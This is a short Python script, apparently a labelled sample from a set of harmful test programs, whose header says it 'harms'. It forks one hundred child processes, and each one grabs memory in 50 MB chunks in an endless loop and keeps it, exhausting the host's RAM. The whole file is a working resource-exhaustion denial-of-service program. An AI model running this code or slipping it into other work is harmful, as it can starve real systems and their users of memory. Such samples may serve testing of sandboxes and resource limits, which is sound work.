# where: first
# kind: harms
# does: Each of a hundred children takes as much memory as one process may have, and keeps it.
import os
import time

for _ in range(100):
    try:
        if os.fork() == 0:
            taken = []
            while True:
                try:
                    taken.append(bytearray(b"\x01") * 50_000_000)
                except MemoryError:
                    time.sleep(1)
    except OSError as error:
        print(error)
